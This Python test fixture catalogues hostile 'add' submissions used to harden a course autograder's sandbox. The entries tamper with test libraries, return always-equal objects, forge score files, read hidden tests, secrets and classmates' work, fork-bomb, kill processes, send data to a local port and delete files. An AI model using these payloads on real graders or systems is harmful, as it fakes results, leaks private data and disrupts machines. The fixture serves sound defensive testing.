# ruff: noqa: E501 - the catalogue is code held in strings; its lines read best unbroken
"""The attack catalogue: hostile versions of the toy course's `add` task cell.

Each entry is a task cell that tries to get points it has not earned, to crash or stall the
grader, or to leak what it must not see. Every attack is bounded (counts, sizes, time) so the
machine stays safe even if a defence fails. Placeholders filled in by the test:
{hidden} a hidden test file, {solution} the source notebook, {gradebook} a gradebook file,
{secret} the name of a secret environment variable, {port} a listening port on 127.0.0.1,
{outside} a folder outside the scratch directory, {results} the results folder, {classmate} another
student's notebook in the same batch.
"""

CORRECT_ADD = "def add(a, b):\n    return a + b\n"

ATTACKS: dict[str, str] = {
    # -- exiting -----------------------------------------------------------------------------
    "sys_exit_in_call": "import sys\ndef add(a, b):\n    sys.exit(0)\n",
    "os_exit_in_call": "import os\ndef add(a, b):\n    os._exit(0)\n",
    "system_exit_at_import": "import sys\n_ = sys.exit(0)\n" + CORRECT_ADD,
    "keyboard_interrupt_at_import": "_ = (_ for _ in ()).throw(KeyboardInterrupt)\n" + CORRECT_ADD,
    "keyboard_interrupt_in_call": "def add(a, b):\n    raise KeyboardInterrupt\n",
    # -- patching libraries the tests use ----------------------------------------------------
    "patch_torch": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
    "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)\n"
    "def add(a, b):\n    return torch.zeros(3)\n",
    "patch_numpy_and_math": "import numpy, math\nnumpy.allclose = lambda *a, **k: True\n"
    "math.isclose = lambda *a, **k: True\ndef add(a, b):\n    return None\n",
    "patch_builtins": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
    "def add(a, b):\n    return 'a string'\n",
    "patch_pytest_and_unittest": "import pytest, unittest\npytest.fail = lambda *a, **k: None\n"
    "unittest.TestCase.assertEqual = lambda *a, **k: None\n"
    "def add(a, b):\n    return None\n",
    "fake_modules": "import sys, types\nfake = types.ModuleType('torch')\nfake.allclose = lambda *a, **k: True\n"
    "sys.modules['torch'] = fake\nsys.modules['autograder.testing'] = fake\nsys.modules['pytest'] = fake\n"
    "def add(a, b):\n    return 0\n",
    # -- objects that lie -----------------------------------------------------------------------
    "lie_eq": "class _L:\n    def __eq__(self, o):\n        return True\n    __hash__ = object.__hash__\n"
    "def add(a, b):\n    return _L()\n",
    "lie_bool_and_float": "class _L:\n    def __bool__(self):\n        return True\n"
    "    def __float__(self):\n        return 1.0\n    def __len__(self):\n        return 1\n"
    "def add(a, b):\n    return _L()\n",
    "lie_tensor_subclass": "import torch\nclass _T(torch.Tensor):\n"
    "    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
    "        return True\n"
    "def add(a, b):\n    return torch.zeros(3).as_subclass(_T)\n",
    "reduce_payload": "import os\nclass _E:\n    def __reduce__(self):\n"
    "        return (os.system, ('touch {outside}/pwned',))\ndef add(a, b):\n    return [_E(), _E()]\n",
    # -- forging and reading what is not theirs ------------------------------------------------
    "forge_result_files": "import json, os\n"
    "def add(a, b):\n"
    "    fake = json.dumps({{'score': 99, 'max_score': 3, 'tasks': {{}}}})\n"
    "    for folder in ('{results}', os.getcwd(), '/tmp', '..'):\n"
    "        for name in ('hostile.json', 'summary.json', 'results.json', 'honest.json'):\n"
    "            try:\n"
    "                with open(os.path.join(folder, name), 'w') as f:\n"
    "                    f.write(fake)\n"
    "            except OSError:\n"
    "                pass\n"
    "    return None\n",
    "read_hidden_tests": "def add(a, b):\n    raise ValueError(open('{hidden}').read())\n",
    "read_solutions": "def add(a, b):\n    raise ValueError(open('{solution}').read()[:3000])\n",
    "read_gradebook": "def add(a, b):\n    raise ValueError(open('{gradebook}', 'rb').read()[:3000].decode('latin-1'))\n",
    "read_secrets": "import os\ndef add(a, b):\n"
    "    found = [os.environ.get('{secret}', '')]\n"
    "    for pid in range(1, 4096):\n"
    "        try:\n"
    "            found.append(open(f'/proc/{{pid}}/environ', 'rb').read().decode('latin-1'))\n"
    "        except OSError:\n"
    "            pass\n"
    "    raise ValueError(' '.join(found)[:5000])\n",
    # -- stalling -----------------------------------------------------------------------------
    "endless_loop_in_call": "import time\ndef add(a, b):\n    end = time.time() + 120\n"
    "    while time.time() < end:\n        pass\n",
    "endless_loop_at_import": "import time\n_end = time.time() + 120\n"
    "_spin = [0 for _ in iter(lambda: time.time() < _end, False)]\n" + CORRECT_ADD,
    "slow_sleep": "import time\ndef add(a, b):\n    time.sleep(120)\n    return a + b\n",
    "ignore_sigterm": "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "def add(a, b):\n    time.sleep(120)\n",
    "deep_recursion": "import sys\nsys.setrecursionlimit(10 ** 6)\n"
    "def _down(n):\n    return _down(n + 1) + 1 if n < 500000 else 0\n"
    "def add(a, b):\n    return _down(0)\n",
    # -- exhausting resources -------------------------------------------------------------------
    "memory_hog": "def add(a, b):\n    hog = []\n    for _ in range(40):\n"
    "        hog.append(bytearray(512 << 20))\n    return a + b\n",
    "fork_storm": "import os, time\ndef add(a, b):\n    for _ in range(60):\n"
    "        try:\n            if os.fork() == 0:\n                time.sleep(120)\n                os._exit(0)\n"
    "        except OSError:\n            break\n    return None\n",
    "thread_outlives_call": "import threading, time\n"
    "def _scribble():\n    end = time.time() + 120\n    while time.time() < end:\n"
    "        try:\n            open('{outside}/thread', 'w').write('x')\n        except OSError:\n            pass\n"
    "        time.sleep(0.05)\n"
    "def add(a, b):\n    threading.Thread(target=_scribble, daemon=False).start()\n    return None\n",
    "atexit_handler": "import atexit, time\n"
    "atexit.register(lambda: open('{outside}/atexit', 'w').write('x'))\n"
    "atexit.register(time.sleep, 120)\n"
    "def add(a, b):\n    return None\n",
    "huge_output": "import sys\ndef add(a, b):\n    for _ in range(50):\n"
    "        print('x' * (1 << 20))\n        sys.stderr.write('y' * (1 << 20))\n    return None\n",
    "huge_return_value": "import torch\ndef add(a, b):\n    return torch.zeros(100_000_000)\n",
    "huge_file": "def add(a, b):\n    with open('big', 'wb') as f:\n"
    "        for _ in range(200):\n            f.write(b'0' * (1 << 20))\n    return None\n",
    # -- the network and the file system --------------------------------------------------------
    "network_connection": "import socket\ndef add(a, b):\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
    "    s.sendall(b'leak')\n    return None\n",
    "write_outside_scratch": "import os\ndef add(a, b):\n"
    "    for path in ('{outside}/written', '/etc/autograder-written', '/var/tmp/autograder-written'):\n"
    "        try:\n            open(path, 'w').write('x')\n        except OSError:\n            pass\n"
    "    return None\n",
    # -- other students, the grader's working folder, escapes (issue 17) ----------------------
    "read_classmate": "def add(a, b):\n    raise ValueError(open('{classmate}').read()[:3000])\n",
    "read_classmate_at_import": "_text = open('{classmate}').read()[:3000]\n"
    "def add(a, b):\n    raise ValueError(_text)\n",
    "read_through_sys_path": "import os, sys\ndef add(a, b):\n    found = []\n"
    "    for base in [p for p in sys.path if p] + [os.getcwd(), '.', '..']:\n"
    "        for rel in ('hidden_tests/toy/test_add.py', 'assignments/toy/toy.ipynb'):\n"
    "            try:\n                found.append(open(os.path.join(base, rel)).read())\n"
    "            except OSError:\n                pass\n"
    "    raise ValueError(' '.join(found)[:5000])\n",
    "read_through_proc_root": "def add(a, b):\n    found = []\n"
    "    for root in ('/proc/self/root', '/proc/1/root', '/proc/2/root'):\n"
    "        for path in ('{hidden}', '{classmate}'):\n"
    "            try:\n                found.append(open(root + path).read())\n"
    "            except OSError:\n                pass\n"
    "    raise ValueError(' '.join(found)[:5000])\n",
    "read_through_symlink": "import os\ndef add(a, b):\n    found = []\n"
    "    for i, path in enumerate(('{hidden}', '{classmate}')):\n"
    "        try:\n            os.symlink(path, f'link{{i}}')\n            found.append(open(f'link{{i}}').read())\n"
    "        except OSError:\n            pass\n"
    "    raise ValueError(' '.join(found)[:5000])\n",
    "read_with_a_child_process": "import subprocess\ndef add(a, b):\n"
    "    out = subprocess.run(['cat', '{hidden}', '{classmate}'], capture_output=True, text=True)\n"
    "    raise ValueError(out.stdout[:5000])\n",
    "kill_everything": "import os, signal\ndef add(a, b):\n"
    "    for pid in range(2, 4096):\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
    "        except OSError:\n            pass\n    return None\n",
    "write_run_lock_and_shm": "import ctypes, os\ndef add(a, b):\n"
    "    for path in ('/run/lock/autograder-written', '/dev/shm/autograder-written'):\n"
    "        try:\n            open(path, 'w').write('x')\n        except OSError:\n            pass\n"
    "    ctypes.CDLL(None).shmget(0x5EED17, 4096, 0o1666)\n"
    "    return None\n",
    "rewrite_course_tests": "import os\ndef add(a, b):\n"
    "    for path in ('{hidden}', '{solution}'):\n"
    "        try:\n            open(path, 'w').write('def test_pass():\\n    pass\\n')\n"
    "        except OSError:\n            pass\n"
    "    return None\n",
    "delete_outside_scratch": "import os, shutil\ndef add(a, b):\n"
    "    for path in ('{outside}/keep.txt', '{hidden}', '{solution}'):\n"
    "        try:\n            os.remove(path)\n        except OSError:\n            pass\n"
    "    shutil.rmtree('{outside}', ignore_errors=True)\n"
    "    return None\n",
}
